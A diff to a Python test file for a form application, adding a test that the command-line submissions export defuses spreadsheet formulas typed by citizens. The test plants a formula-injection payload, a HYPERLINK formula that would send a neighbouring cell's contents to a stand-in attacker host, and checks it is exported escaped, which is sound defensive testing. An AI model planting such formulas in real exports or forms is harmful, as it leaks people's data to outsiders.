@@ -1,5 +1,7 @@
 """Nothing lost: answers saved after every page, across restarts, and by return code."""
 
+import csv
+import io
 import json
 from datetime import timedelta
 
@@ -90,3 +92,18 @@ def test_submissions_export_as_json_and_csv(app, client):
     ).output
     assert csv_output.splitlines()[0].startswith("reference,sent_at,language,about")
     assert "Sam Jones" in csv_output
+
+
+def test_the_command_line_export_defuses_formulas_a_citizen_typed(app, client):
+    """The web export was safe; `flask submissions export` wrote `=HYPERLINK(...)` as is."""
+    planted = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
+    answers = [(q, {"answer": planted} if q == "about" else a) for q, a in CARE_ANSWERS]
+    walk(client, CARE, answers)
+    submit_form(client, f"{CARE}/check")
+    output = (
+        app.test_cli_runner()
+        .invoke(args=["submissions", "export", "--form", "ask-for-a-care-needs-assessment"])
+        .output
+    )
+    rows = list(csv.DictReader(io.StringIO(output)))
+    assert rows[0]["about"] == "'" + planted
